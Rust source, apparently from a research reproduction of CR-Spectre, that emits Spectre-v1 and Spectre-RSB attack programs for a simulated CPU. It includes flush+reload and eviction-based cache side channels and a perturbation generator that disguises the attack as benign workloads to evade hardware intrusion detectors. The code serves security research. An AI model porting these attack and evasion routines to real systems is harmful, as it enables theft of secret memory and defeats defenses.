        emit_perturb(&mut asm, params);
    }
    emit_data(&mut asm, config);
    asm.entry("main");
    asm.build(config.binary_name.clone()).expect("spectre binary assembles")
}

fn emit_data(asm: &mut Asm, config: &SpectreConfig) {
    asm.data_label("sp_array1_size");
    asm.dq(16);
    asm.data_label("sp_array1");
    asm.db(&[1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16]);
    // Pad with a full guard line so neither adjacency nor a next-line
    // prefetch triggered by array1/array1_size misses can warm the first
    // probe slot.
    asm.space(40 + 64);
    asm.data_label("sp_probe");
    asm.space(config.covert.probe_bytes());
    asm.space(64); // trailing guard line
    asm.data_label("sp_recovered");
    asm.space(u64::from(config.secret_len).max(1));
    crate::covert::emit_evict_buffer(asm, &config.covert);
}

/// The attacker main loop. Register plan: `r12` = byte index (live across
/// `perturb`, which clobbers `r0..r3`, `r9`, `r10`), `r11` = round
/// counter; everything else is scratch per phase.
fn emit_main(asm: &mut Asm, config: &SpectreConfig) {
    asm.label("main");
    asm.ldi(Reg::R12, 0); // byte index
    asm.label("sp_byte");
    asm.ldi(Reg::R11, 0); // round
    asm.ldi(Reg::R13, 0); // best observation for this byte
    asm.label("sp_round");
    if config.variant == SpectreVariant::V1 {
        // Mistrain the bounds check with in-bounds indices.
        asm.ldi(Reg::R5, 0);
        asm.label("sp_train");
        asm.alui(AluOp::And, Reg::R1, Reg::R5, 15);
        asm.call("sp_victim");
        asm.alui(AluOp::Add, Reg::R5, Reg::R5, 1);
        asm.ldi(Reg::R6, config.train_rounds as i32);
        asm.br(BranchCond::Ltu, Reg::R5, Reg::R6, "sp_train");
    }
    // Reset the channel.
    emit_flush_probe(asm, &config.covert, "sp_probe", "m");
    match config.variant {
        SpectreVariant::V1 => {
            // Flush (or evict) the bound so the check resolves slowly,
            // then call the victim with the out-of-bounds index
            // secret_addr + i - array1.
            asm.la(Reg::R4, "sp_array1_size");
            match config.covert.strategy {
                crate::covert::ChannelStrategy::FlushReload => asm.clflush(Reg::R4, 0),
                crate::covert::ChannelStrategy::EvictReload => {
                    crate::covert::emit_evict_addr(asm, Reg::R4, Reg::R5, Reg::R6);
                }
            }
            asm.mfence();
            asm.la(Reg::R4, "sp_array1");
            asm.ldi(Reg::R1, config.secret_addr as i32);
            asm.alu(AluOp::Add, Reg::R1, Reg::R1, Reg::R12);
            asm.alu(AluOp::Sub, Reg::R1, Reg::R1, Reg::R4);
            asm.call("sp_victim");
        }
        SpectreVariant::Rsb => {
            // r3 = &secret[i]; r10 = probe base; the victim rewrites its
            // return address so these four instructions execute only
            // transiently, under the stale RSB prediction.
            asm.ldi(Reg::R3, config.secret_addr as i32);
            asm.alu(AluOp::Add, Reg::R3, Reg::R3, Reg::R12);
            asm.la(Reg::R10, "sp_probe");
            asm.call("sp_victim");
            // --- transient-only gadget (architecturally skipped) ---
            asm.ld(Width::B, Reg::R4, Reg::R3, 0);
            asm.alui(AluOp::Mul, Reg::R4, Reg::R4, config.covert.stride);
            asm.alu(AluOp::Add, Reg::R5, Reg::R10, Reg::R4);
            asm.ld(Width::B, Reg::R6, Reg::R5, 0);
            // --- architectural resume point ---
        }
    }
    // Receive: first fast probe slot into r7.
    emit_probe_decode(asm, &config.covert, "sp_probe", "m");
    // Keep the latest nonzero observation across rounds in r13 (the
    // decode and flush loops clobber r4..r10).
    asm.br(BranchCond::Eq, Reg::R7, Reg::R0, "sp_no_obs");
    asm.mov(Reg::R13, Reg::R7);
    asm.label("sp_no_obs");
    asm.alui(AluOp::Add, Reg::R11, Reg::R11, 1);
    asm.ldi(Reg::R6, config.rounds_per_byte as i32);
    asm.br(BranchCond::Ltu, Reg::R11, Reg::R6, "sp_round");
    // recovered[i] = r13
    asm.la(Reg::R4, "sp_recovered");
    asm.alu(AluOp::Add, Reg::R4, Reg::R4, Reg::R12);
    asm.st(Width::B, Reg::R4, Reg::R13, 0);
    // Dynamic perturbation between bytes (the CR in CR-Spectre).
    if config.perturb.is_some() {
        asm.call("perturb");
    }
    asm.alui(AluOp::Add, Reg::R12, Reg::R12, 1);
    asm.ldi(Reg::R4, config.secret_len as i32);
    asm.br(BranchCond::Ltu, Reg::R12, Reg::R4, "sp_byte");
    // Exfiltrate and exit.
    asm.la(Reg::R1, "sp_recovered");
    asm.ldi(Reg::R2, config.secret_len as i32);
    asm.ldi(Reg::R0, sys::WRITE as i32);
    asm.syscall();
    asm.ldi(Reg::R0, sys::EXIT as i32);
    asm.ldi(Reg::R1, 0);
    asm.syscall();
}

/// The Spectre-v1 victim: bounds check, then the two dependent loads.
fn emit_v1_victim(asm: &mut Asm, stride: i32) {
    asm.label("sp_victim");
    asm.la(Reg::R2, "sp_array1_size");
    asm.ld(Width::D, Reg::R2, Reg::R2, 0);
    asm.br(BranchCond::Geu, Reg::R1, Reg::R2, "sp_victim_skip");
    asm.la(Reg::R3, "sp_array1");
    asm.alu(AluOp::Add, Reg::R3, Reg::R3, Reg::R1);
    asm.ld(Width::B, Reg::R4, Reg::R3, 0); // array1[x]
    asm.alui(AluOp::Mul, Reg::R4, Reg::R4, stride); // × channel stride
    asm.la(Reg::R5, "sp_probe");
    asm.alu(AluOp::Add, Reg::R5, Reg::R5, Reg::R4);
    asm.ld(Width::B, Reg::R6, Reg::R5, 0); // transmit
    asm.label("sp_victim_skip");
    asm.ret();
}

/// The Spectre-RSB victim: rewrites its return address to skip the
/// 4-instruction gadget at the call site, flushes (or evicts) the stack
/// slot so the return resolves slowly, and returns — the RSB still
/// predicts the original site, transiently executing the gadget.
fn emit_rsb_victim(asm: &mut Asm, covert: &crate::covert::CovertConfig) {
    asm.label("sp_victim");
    asm.ld(Width::D, Reg::R9, Reg::SP, 0);
    asm.alui(AluOp::Add, Reg::R9, Reg::R9, 4 * 8);
    asm.st(Width::D, Reg::SP, Reg::R9, 0);
    match covert.strategy {
        crate::covert::ChannelStrategy::FlushReload => asm.clflush(Reg::SP, 0),
        crate::covert::ChannelStrategy::EvictReload => {
            // r2/r9 are dead here; r3/r10 carry the caller's gadget state.
            crate::covert::emit_evict_addr(asm, Reg::SP, Reg::R2, Reg::R9);
        }
    }
    asm.ret();
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn config_defaults() {
        let cfg = SpectreConfig::new(0x4000, 8);
        assert_eq!(cfg.variant, SpectreVariant::V1);
        assert!(cfg.perturb.is_none());
        let cr = cfg.clone().with_perturb(PerturbParams::paper_default());
        assert!(cr.perturb.is_some());
        let rsb = cfg.with_variant(SpectreVariant::Rsb);
        assert_eq!(rsb.variant, SpectreVariant::Rsb);
    }

    #[test]
    #[should_panic(expected = "immediate")]
    fn oversized_secret_addr_panics() {
        let _ = SpectreConfig::new(1 << 40, 8);
    }

    #[test]
    fn image_builds_with_expected_symbols() {
        let image = build_spectre_image(&SpectreConfig::new(0x8000, 16));
        for sym in ["main", "sp_victim", "sp_probe", "sp_recovered", "sp_array1"] {
            assert!(image.symbol(sym).is_some(), "missing {sym}");
        }
        assert!(image.size() > CovertConfig::default().probe_bytes());
    }

    #[test]
    fn cr_image_includes_perturb() {
        let cfg = SpectreConfig::new(0x8000, 4).with_perturb(PerturbParams::paper_default());
        let image = build_spectre_image(&cfg);
        assert!(image.symbol("perturb").is_some());
        assert!(image.symbol("pt_buf").is_some());
    }
}

//! Flush+reload cache covert channel.
//!
//! The transmitter is the transient load `probe[byte * STRIDE]` inside the
//! Spectre victim; the receiver times a reload of every probe slot with
//! `RDTSC` and treats anything faster than [`CovertConfig::threshold`]
//! cycles as a hit. This module holds the channel parameters, guest-code
//! emitters shared by the Spectre variants, and host-side calibration and
//! oracle-decoding utilities.

use cr_spectre_asm::builder::Asm;
use cr_spectre_sim::config::MachineConfig;
use cr_spectre_sim::cpu::Machine;
use cr_spectre_sim::isa::{AluOp, BranchCond, Reg, Width};
use cr_spectre_sim::mem::Perms;

/// How the receiver resets probe lines between transmissions.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum ChannelStrategy {
    /// `CLFLUSH` each probe line — the paper's channel. Fast, but dead
    /// the moment the §IV "disable clflush for non-privileged processes"
    /// countermeasure is deployed.
    FlushReload,
    /// Evict each probe line by touching a full associativity-worth of
    /// set-congruent addresses — no privileged instruction needed, so it
    /// survives the clflush ban. Slower (8 loads per line instead of one
    /// flush) but architecturally unprivileged.
    EvictReload,
}

/// Covert-channel parameters.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct CovertConfig {
    /// Byte stride between probe slots; must exceed the cache line size
    /// so every slot owns a distinct line (the classic PoC uses 512).
    pub stride: i32,
    /// Number of probe slots (256 = one per byte value).
    pub entries: i32,
    /// Reload-time threshold in cycles separating hit from miss.
    pub threshold: i32,
    /// Line-reset strategy.
    pub strategy: ChannelStrategy,
}

impl Default for CovertConfig {
    fn default() -> CovertConfig {
        CovertConfig {
            stride: 512,
            entries: 256,
            threshold: 100,
            strategy: ChannelStrategy::FlushReload,
        }
    }
}

impl CovertConfig {
    /// A clflush-free configuration (survives the §IV countermeasure).
    pub fn evict_reload() -> CovertConfig {
        CovertConfig { strategy: ChannelStrategy::EvictReload, ..CovertConfig::default() }
    }

    /// Probe-array footprint in bytes.
    pub fn probe_bytes(&self) -> u64 {
        self.stride as u64 * self.entries as u64
    }

    /// The L2 set-congruence period assumed by the eviction sets
    /// (sets × line size of the default hierarchy).
    pub const EVICT_PERIOD: i64 = 512 * 64;
    /// Lines touched per eviction (the L2 associativity).
    pub const EVICT_WAYS: i64 = 8;
    /// Size of the eviction buffer, including alignment slack.
    pub const EVICT_BUF_BYTES: u64 =
        (Self::EVICT_WAYS as u64 + 1) * Self::EVICT_PERIOD as u64 + Self::EVICT_PERIOD as u64;
}

/// Emits a loop resetting every probe slot (clobbers `r4`–`r8`).
/// `probe_label` names the probe array; `tag` uniquifies branch labels.
///
/// With [`ChannelStrategy::EvictReload`] the caller must also have
/// emitted an eviction buffer labelled `cv_evict` of
/// [`CovertConfig::EVICT_BUF_BYTES`] bytes (see [`emit_evict_buffer`]).
pub fn emit_flush_probe(asm: &mut Asm, cfg: &CovertConfig, probe_label: &str, tag: &str) {
    match cfg.strategy {
        ChannelStrategy::FlushReload => {
            let loop_label = format!("cv_flush_{tag}");
            asm.la(Reg::R4, probe_label);
            asm.ldi(Reg::R5, 0);
            asm.label(loop_label.clone());
            asm.clflush(Reg::R4, 0);
            asm.alui(AluOp::Add, Reg::R4, Reg::R4, cfg.stride);
            asm.alui(AluOp::Add, Reg::R5, Reg::R5, 1);
            asm.ldi(Reg::R6, cfg.entries);
            asm.br(BranchCond::Ltu, Reg::R5, Reg::R6, loop_label);
            asm.mfence();
        }
        ChannelStrategy::EvictReload => {
            let period = CovertConfig::EVICT_PERIOD as i32;
            let loop_label = format!("cv_evict_loop_{tag}");
            // r4 = eviction base, aligned up to the congruence period.
            asm.la(Reg::R4, "cv_evict");
            asm.alui(AluOp::Add, Reg::R4, Reg::R4, period - 1);
            asm.alui(AluOp::And, Reg::R4, Reg::R4, -period);
            asm.ldi(Reg::R5, 0); // slot index
            asm.label(loop_label.clone());
            // r7 = base + (slot line address mod period): 8 loads through
            // this congruence class displace the slot from L1 and L2.
            asm.la(Reg::R6, probe_label);
            asm.alui(AluOp::Mul, Reg::R7, Reg::R5, cfg.stride);
            asm.alu(AluOp::Add, Reg::R6, Reg::R6, Reg::R7);
            asm.alui(AluOp::And, Reg::R6, Reg::R6, period - 1);
            asm.alu(AluOp::Add, Reg::R7, Reg::R4, Reg::R6);
            for way in 0..CovertConfig::EVICT_WAYS as i32 {
                asm.ld(Width::B, Reg::R8, Reg::R7, way * period);
            }
            asm.alui(AluOp::Add, Reg::R5, Reg::R5, 1);
            asm.ldi(Reg::R6, cfg.entries);
            asm.br(BranchCond::Ltu, Reg::R5, Reg::R6, loop_label);
            asm.mfence();
        }
    }
}

/// Emits code evicting the single cache line containing the address in
/// `addr` (read-only) via the congruence buffer, using `t1`/`t2` as
/// scratch. Requires the `cv_evict` buffer (see [`emit_evict_buffer`]).
pub fn emit_evict_addr(asm: &mut Asm, addr: Reg, t1: Reg, t2: Reg) {
    let period = CovertConfig::EVICT_PERIOD as i32;
    asm.la(t1, "cv_evict");
    asm.alui(AluOp::Add, t1, t1, period - 1);
    asm.alui(AluOp::And, t1, t1, -period);
    asm.alui(AluOp::And, t2, addr, period - 1);
    asm.alu(AluOp::Add, t1, t1, t2);
    for way in 0..CovertConfig::EVICT_WAYS as i32 {
        asm.ld(Width::B, t2, t1, way * period);
    }
}

/// Emits the eviction buffer required by [`ChannelStrategy::EvictReload`]
/// into `.data` (no-op for flush+reload).
pub fn emit_evict_buffer(asm: &mut Asm, cfg: &CovertConfig) {
    if cfg.strategy == ChannelStrategy::EvictReload {
        asm.data_label("cv_evict");
        asm.space(CovertConfig::EVICT_BUF_BYTES);
    }
}

/// Emits the receiver: times a reload of each probe slot and leaves the
/// first below-threshold slot index in `r7` (0 if none responded).
/// Clobbers `r4`, `r5`, `r6`, `r8`, `r9`, `r10`.
///
/// Slots are visited in the classic PoC's permuted order
/// (`mix_i = (i * 167 + 13) mod entries`, a bijection for power-of-two
/// entry counts) so a stride/next-line prefetcher cannot lock onto the
/// probing pattern and fabricate hits.
pub fn emit_probe_decode(asm: &mut Asm, cfg: &CovertConfig, probe_label: &str, tag: &str) {
    assert!(
        (cfg.entries as u64).is_power_of_two(),
        "probe decode requires a power-of-two entry count"
    );
    let loop_label = format!("cv_probe_{tag}");
    let next_label = format!("cv_next_{tag}");
    let done_label = format!("cv_done_{tag}");
    let mask = cfg.entries - 1;
    // r5 = logical index i; r6 = physical slot mix_i.
    asm.ldi(Reg::R5, 0);
    asm.label(loop_label.clone());
    asm.alui(AluOp::Mul, Reg::R6, Reg::R5, 167);
    asm.alui(AluOp::Add, Reg::R6, Reg::R6, 13);
    asm.alui(AluOp::And, Reg::R6, Reg::R6, mask);
    asm.la(Reg::R4, probe_label);
    asm.alui(AluOp::Mul, Reg::R10, Reg::R6, cfg.stride);
    asm.alu(AluOp::Add, Reg::R4, Reg::R4, Reg::R10);
    asm.rdtsc(Reg::R8);
    asm.ld(Width::B, Reg::R10, Reg::R4, 0);
    asm.mfence();
    asm.rdtsc(Reg::R9);
    asm.alu(AluOp::Sub, Reg::R9, Reg::R9, Reg::R8);
    asm.ldi(Reg::R10, cfg.threshold);
    asm.br(BranchCond::Geu, Reg::R9, Reg::R10, next_label.clone());
    asm.mov(Reg::R7, Reg::R6); // hit: the physical slot is the byte
    asm.jmp(done_label.clone());
    asm.label(next_label);
    asm.alui(AluOp::Add, Reg::R5, Reg::R5, 1);
    asm.ldi(Reg::R10, cfg.entries);
    asm.br(BranchCond::Ltu, Reg::R5, Reg::R10, loop_label);
    asm.ldi(Reg::R7, 0); // nothing responded
    asm.label(done_label);
}

/// Measures the channel's hit/miss latency gap on a fresh machine with
/// the given configuration: returns `(hit_cycles, miss_cycles)` as the
/// guest's own `RDTSC` deltas. Used to validate/calibrate
/// [`CovertConfig::threshold`].
pub fn measure_latency_gap(config: &MachineConfig) -> (u64, u64) {
    let mut asm = Asm::new();
    asm.label("main");
    asm.la(Reg::R1, "slot");
    // Miss timing: flushed line.
    asm.clflush(Reg::R1, 0);
    asm.mfence();
    asm.rdtsc(Reg::R2);
    asm.ld(Width::B, Reg::R5, Reg::R1, 0);
    asm.mfence();
    asm.rdtsc(Reg::R3);
    asm.alu(AluOp::Sub, Reg::R12, Reg::R3, Reg::R2); // miss delta
    // Hit timing: now cached.
    asm.rdtsc(Reg::R2);
    asm.ld(Width::B, Reg::R5, Reg::R1, 0);
    asm.mfence();
    asm.rdtsc(Reg::R3);
    asm.alu(AluOp::Sub, Reg::R13, Reg::R3, Reg::R2); // hit delta
    asm.halt();
    asm.data_label("slot");
    asm.space(64);
    let image = asm.build("calibrate").expect("assembles");
    let mut machine = Machine::new(config.clone());
    let loaded = machine.load(&image).expect("loads");
    machine.start(loaded.entry);
    let outcome = machine.run();
    assert!(outcome.exit.is_clean(), "calibration run failed: {:?}", outcome.exit);
    (machine.reg(Reg::R13), machine.reg(Reg::R12))
}

/// Picks a threshold halfway between the measured hit and miss times.
pub fn calibrate_threshold(config: &MachineConfig) -> i32 {
    let (hit, miss) = measure_latency_gap(config);
    ((hit + miss) / 2) as i32
}

/// Cache-state oracle: which probe slot is resident (test utility —
/// inspects the simulator's cache tags directly instead of timing).
pub fn resident_slot(machine: &Machine, probe_addr: u64, cfg: &CovertConfig) -> Option<u8> {
    (0..cfg.entries as u64)
        .find(|&k| machine.caches().data_resident(probe_addr + k * cfg.stride as u64))
        .map(|k| k as u8)
}

/// Allocates a probe array on the machine heap (test utility).
pub fn alloc_probe(machine: &mut Machine, cfg: &CovertConfig) -> u64 {
    machine.alloc(cfg.probe_bytes(), Perms::RW)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn latency_gap_supports_default_threshold() {
        let cfg = MachineConfig::default();
        let (hit, miss) = measure_latency_gap(&cfg);
        let channel = CovertConfig::default();
        assert!(
            hit < channel.threshold as u64,
            "hit {hit} must be under threshold"
        );
        assert!(
            miss > channel.threshold as u64 * 2,
            "miss {miss} must be well over threshold"
        );
    }

    #[test]
    fn calibrated_threshold_separates() {
        let cfg = MachineConfig::default();
        let (hit, miss) = measure_latency_gap(&cfg);
        let thr = calibrate_threshold(&cfg) as u64;
        assert!(hit < thr && thr < miss);
    }

    #[test]
    fn stride_exceeds_line_size() {
        let channel = CovertConfig::default();
        let machine = MachineConfig::default();
        assert!(channel.stride as u64 >= machine.caches.l1d.line_size);
        assert_eq!(channel.probe_bytes(), 512 * 256);
    }

    #[test]
    fn resident_slot_oracle() {
        let mut machine = Machine::new(MachineConfig::default());
        let channel = CovertConfig::default();
        let probe = alloc_probe(&mut machine, &channel);
        assert_eq!(resident_slot(&machine, probe, &channel), None);
        machine.caches_mut().access_data(probe + 42 * 512);
        assert_eq!(resident_slot(&machine, probe, &channel), Some(42));
    }

    #[test]
    fn evict_reload_clears_probe_lines_without_clflush() {
        // Run the eviction-based reset on a machine with clflush DISABLED
        // and verify a previously hot probe slot becomes cold.
        let channel = CovertConfig::evict_reload();
        let mut asm = Asm::new();
        asm.label("main");
        // Warm slot 0x40.
        asm.la(Reg::R4, "probe");
        asm.ldi(Reg::R5, 0x40 * 512);
        asm.alu(AluOp::Add, Reg::R4, Reg::R4, Reg::R5);
        asm.ld(Width::B, Reg::R6, Reg::R4, 0);
        emit_flush_probe(&mut asm, &channel, "probe", "t");
        asm.halt();
        asm.data_label("probe");
        asm.space(channel.probe_bytes());
        emit_evict_buffer(&mut asm, &channel);
        let image = asm.build("t").expect("assembles");
        let mut machine_cfg = MachineConfig::default();
        machine_cfg.protect.clflush_enabled = false; // the §IV ban
        let mut machine = Machine::new(machine_cfg);
        let loaded = machine.load(&image).expect("loads");
        let probe = loaded.addr("probe");
        machine.start(loaded.entry);
        assert!(machine.run().exit.is_clean());
        assert!(
            !machine.caches().data_resident(probe + 0x40 * 512),
            "eviction must displace the slot from both cache levels"
        );
    }

    #[test]
    fn guest_decode_loop_reads_planted_byte() {
        // Plant a hit at slot 0x5e by touching its line, then run the
        // decode loop and check r7.
        let channel = CovertConfig::default();
        let mut asm = Asm::new();
        asm.label("main");
        emit_flush_probe(&mut asm, &channel, "probe", "t");
        // Touch slot 0x5e.
        asm.la(Reg::R4, "probe");
        asm.ldi(Reg::R5, 0x5e * 512);
        asm.alu(AluOp::Add, Reg::R4, Reg::R4, Reg::R5);
        asm.ld(Width::B, Reg::R6, Reg::R4, 0);
        asm.mfence();
        emit_probe_decode(&mut asm, &channel, "probe", "t");
        asm.halt();
        asm.data_label("probe");
        asm.space(channel.probe_bytes());
        let image = asm.build("t").expect("assembles");
        let mut machine = Machine::new(MachineConfig::default());
        let loaded = machine.load(&image).expect("loads");
        machine.start(loaded.entry);
        assert!(machine.run().exit.is_clean());
        assert_eq!(machine.reg(Reg::R7), 0x5e);
    }
}

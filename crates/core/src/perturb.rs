//! Defense-aware dynamic perturbation generation — the paper's
//! Algorithm 2.
//!
//! The perturbation kernel is a loop of conditional `clflush`/`mfence`
//! bursts whose trip counts are governed by the attack parameters `a` and
//! `b` (mutated per variant). Each flush evicts a line of a scratch buffer
//! whose address is derived from the current parameter value, so both the
//! *number* and the *cache-set distribution* of misses change between
//! variants — contaminating exactly the counters the HID features use
//! (cache misses/accesses, and via the extra loop control also branch
//! counts). An optional delay loop disperses the perturbations in time,
//! the paper's mechanism for making HPC magnitudes go *down* as well as
//! up.

use cr_spectre_asm::builder::Asm;
use cr_spectre_sim::isa::{AluOp, BranchCond, Reg, Width};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

/// Size of the perturbation scratch buffer (power of two).
const BUF_SIZE: i32 = 16 * 1024;

/// The benign activity a perturbation variant mimics between its flush
/// bursts.
///
/// Algorithm 2's delay-loop extension generalized: instead of idling, the
/// dispersal phase can execute copy-, hash- or scan-shaped work so the
/// contaminated windows resemble a *particular* benign application —
/// "executing under the cloak of a benign application". Variants with
/// different camouflage occupy different regions of HPC feature space,
/// which is what lets consecutive variants evade a freshly retrained
/// online HID.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Camouflage {
    /// Plain busy-wait (the paper's bare delay loop).
    None,
    /// Byte-copy bursts (editor/memcpy-like).
    Copy,
    /// Multiply/xor hashing bursts (browser/compute-like).
    Hash,
    /// Strided-read bursts (scanning/streaming-like).
    Scan,
}

impl Camouflage {
    /// All camouflage shapes, in mutation-rotation order.
    pub const ALL: [Camouflage; 4] =
        [Camouflage::None, Camouflage::Copy, Camouflage::Hash, Camouflage::Scan];
}

/// Parameters of one perturbation variant (Algorithm 2's `a`, `b`, loop
/// count, plus the delay-loop/camouflage extension discussed in §II-E).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct PerturbParams {
    /// Initial value of parameter `a` (paper default 11).
    pub a: i32,
    /// Initial value of parameter `b` (paper default 6).
    pub b: i32,
    /// Outer loop trip count (paper default 10).
    pub loop_count: i32,
    /// Per-iteration increment applied to `a` (paper: 50).
    pub a_step: i32,
    /// Per-iteration increment applied to `b` (paper: 10).
    pub b_step: i32,
    /// Dispersal iterations per outer iteration (0 = paper's Algorithm 2;
    /// larger values spread the perturbation in time).
    pub delay: i32,
    /// Shape of the dispersal work.
    pub camouflage: Camouflage,
}

impl PerturbParams {
    /// The exact parameters of the paper's Algorithm 2 listing.
    pub fn paper_default() -> PerturbParams {
        PerturbParams {
            a: 11,
            b: 6,
            loop_count: 10,
            a_step: 50,
            b_step: 10,
            delay: 0,
            camouflage: Camouflage::None,
        }
    }

    /// The dispersal-biased variant used once the HID has seen plain
    /// Spectre: a longer loop with a delay that spreads the attack's cache
    /// activity across many sampling windows, pulling per-window HPC
    /// vectors toward the benign distribution (§II-E: "we can use a delay
    /// loop to disperse generated perturbations").
    pub fn evasive_default() -> PerturbParams {
        PerturbParams {
            a: 11,
            b: 6,
            loop_count: 24,
            a_step: 50,
            b_step: 10,
            delay: 2_500,
            camouflage: Camouflage::None,
        }
    }

    /// Rough count of `clflush` executions one call will perform — used
    /// by tests and by the campaign driver to reason about intensity.
    pub fn expected_flushes(&self) -> u64 {
        let mut flushes = 0u64;
        let (mut a, mut b) = (i64::from(self.a), i64::from(self.b));
        for i in 0..i64::from(self.loop_count) {
            if i < a {
                flushes += 1;
                a += i64::from(self.a_step);
            }
            if i < b {
                flushes += 2;
                b += i64::from(self.b_step);
                b -= i64::from(self.b_step);
            }
        }
        flushes
    }
}

impl Default for PerturbParams {
    fn default() -> PerturbParams {
        PerturbParams::paper_default()
    }
}

/// Emits the Algorithm-2 routine as a callable guest function named
/// `perturb` (clobbers `r0..r3`, `r9`, `r10`).
///
/// Also emits the scratch buffer `pt_buf` into `.data`.
pub fn emit_perturb(asm: &mut Asm, params: &PerturbParams) {
    asm.data_label("pt_buf");
    asm.space(BUF_SIZE as u64);

    asm.label("perturb");
    asm.ldi(Reg::R2, params.a); // a
    asm.ldi(Reg::R3, params.b); // b
    asm.ldi(Reg::R1, 0); // i
    asm.label("pt_loop");
    // if (i < a) { touch+flush line derived from a; mfence; a += step }
    asm.br(BranchCond::Ge, Reg::R1, Reg::R2, "pt_skip_a");
    emit_flush_of(asm, Reg::R2);
    asm.mfence();
    asm.alui(AluOp::Add, Reg::R2, Reg::R2, params.a_step);
    asm.label("pt_skip_a");
    // if (i < b) { flush(b); mfence; b += step; flush(b); mfence; b -= step }
    asm.br(BranchCond::Ge, Reg::R1, Reg::R3, "pt_skip_b");
    emit_flush_of(asm, Reg::R3);
    asm.mfence();
    asm.alui(AluOp::Add, Reg::R3, Reg::R3, params.b_step);
    emit_flush_of(asm, Reg::R3);
    asm.mfence();
    asm.alui(AluOp::Sub, Reg::R3, Reg::R3, params.b_step);
    asm.label("pt_skip_b");
    // Dispersal phase: camouflage work (or a bare delay loop).
    if params.delay > 0 {
        emit_camouflage(asm, params);
    }
    asm.alui(AluOp::Add, Reg::R1, Reg::R1, 1);
    asm.ldi(Reg::R9, params.loop_count);
    asm.br(BranchCond::Lt, Reg::R1, Reg::R9, "pt_loop");
    asm.ret();
}

/// Emits the dispersal work of one outer iteration: `params.delay`
/// iterations of the camouflage shape, using `r9`/`r10`/`r0` only.
fn emit_camouflage(asm: &mut Asm, params: &PerturbParams) {
    let top = format!("pt_camo_{}", asm.here());
    asm.ldi(Reg::R10, params.delay);
    asm.label(top.clone());
    match params.camouflage {
        Camouflage::None => {}
        Camouflage::Copy => {
            // Editor-like byte shuffling within the scratch buffer.
            asm.la(Reg::R9, "pt_buf");
            asm.alui(AluOp::And, Reg::R0, Reg::R10, 0xfff);
            asm.alu(AluOp::Add, Reg::R9, Reg::R9, Reg::R0);
            asm.ld(Width::B, Reg::R0, Reg::R9, 0);
            asm.st(Width::B, Reg::R9, Reg::R0, 2048);
        }
        Camouflage::Hash => {
            // Browser-like multiply/xor compute burst.
            asm.alui(AluOp::Mul, Reg::R9, Reg::R10, 0x0100_0193);
            asm.alui(AluOp::Xor, Reg::R9, Reg::R9, 0x5bd1);
            asm.alu(AluOp::Add, Reg::R9, Reg::R9, Reg::R9);
        }
        Camouflage::Scan => {
            // Streaming strided reads over the scratch buffer.
            asm.la(Reg::R9, "pt_buf");
            asm.alui(AluOp::Mul, Reg::R0, Reg::R10, 72);
            asm.alui(AluOp::And, Reg::R0, Reg::R0, 0x3fff);
            asm.alu(AluOp::Add, Reg::R9, Reg::R9, Reg::R0);
            asm.ld(Width::D, Reg::R0, Reg::R9, 0);
        }
    }
    asm.alui(AluOp::Sub, Reg::R10, Reg::R10, 1);
    asm.ldi(Reg::R0, 0);
    asm.br(BranchCond::Ne, Reg::R10, Reg::R0, top);
}

/// Emits "load then flush the buffer line indexed by `param`": the load
/// makes the next flush observable as a miss on re-access, matching the
/// paper's cflush-on-the-arithmetic-operation pattern.
fn emit_flush_of(asm: &mut Asm, param: Reg) {
    asm.la(Reg::R9, "pt_buf");
    asm.alui(AluOp::Mul, Reg::R10, param, 64);
    asm.alui(AluOp::And, Reg::R10, Reg::R10, BUF_SIZE - 1);
    asm.alu(AluOp::Add, Reg::R9, Reg::R9, Reg::R10);
    asm.ld(Width::B, Reg::R0, Reg::R9, 0);
    asm.clflush(Reg::R9, 0);
}

/// Defense-aware variant generator: mutates the attack parameters each
/// time the HID flags the current variant (the Figure-3 adaptation loop).
#[derive(Debug)]
pub struct VariantGenerator {
    rng: StdRng,
    generation: u32,
}

impl VariantGenerator {
    /// Creates a generator with a deterministic seed.
    pub fn new(seed: u64) -> VariantGenerator {
        VariantGenerator { rng: StdRng::seed_from_u64(seed), generation: 0 }
    }

    /// How many variants have been produced so far.
    pub fn generation(&self) -> u32 {
        self.generation
    }

    /// Produces the next perturbation variant. The first variant is the
    /// evasive dispersal default; subsequent variants mutate the loop
    /// count, the operation variables and the dispersal delay so the
    /// generated HPC pattern differs from every previous one. Because the
    /// generator is defense-aware, later generations bias toward *more*
    /// dispersal — each time the HID catches up, the attacker spreads its
    /// activity thinner.
    pub fn next_variant(&mut self) -> PerturbParams {
        self.generation += 1;
        if self.generation == 1 {
            return PerturbParams::evasive_default();
        }
        let escalation = i32::try_from(self.generation).unwrap_or(i32::MAX).min(16);
        // Rotate the camouflage shape so consecutive variants sit in
        // different regions of HPC feature space.
        let camouflage = Camouflage::ALL[self.generation as usize % Camouflage::ALL.len()];
        PerturbParams {
            a: self.rng.random_range(2..48),
            b: self.rng.random_range(1..32),
            loop_count: self.rng.random_range(12..48),
            a_step: self.rng.random_range(10..80),
            b_step: self.rng.random_range(4..24),
            delay: self.rng.random_range(800..2_400) + 600 * escalation,
            camouflage,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cr_spectre_sim::config::MachineConfig;
    use cr_spectre_sim::cpu::Machine;
    use cr_spectre_sim::pmu::HpcEvent;

    fn run_perturb(params: &PerturbParams) -> Machine {
        let mut asm = Asm::new();
        asm.label("main");
        asm.call("perturb");
        asm.halt();
        asm.entry("main");
        emit_perturb(&mut asm, params);
        let image = asm.build("p").expect("assembles");
        let mut m = Machine::new(MachineConfig::default());
        let li = m.load(&image).expect("loads");
        m.start(li.entry);
        let out = m.run();
        assert!(out.exit.is_clean(), "{:?}", out.exit);
        m
    }

    #[test]
    fn paper_default_flush_count_matches_model() {
        let params = PerturbParams::paper_default();
        let m = run_perturb(&params);
        assert_eq!(m.pmu().count(HpcEvent::Flushes), params.expected_flushes());
        // Algorithm 2 defaults: `a` grows past `i` immediately, so the `a`
        // branch flushes on all 10 iterations; `b` returns to 6 each time,
        // so its double flush fires for i = 0..5: 10 + 2*6 = 22.
        assert_eq!(params.expected_flushes(), 22);
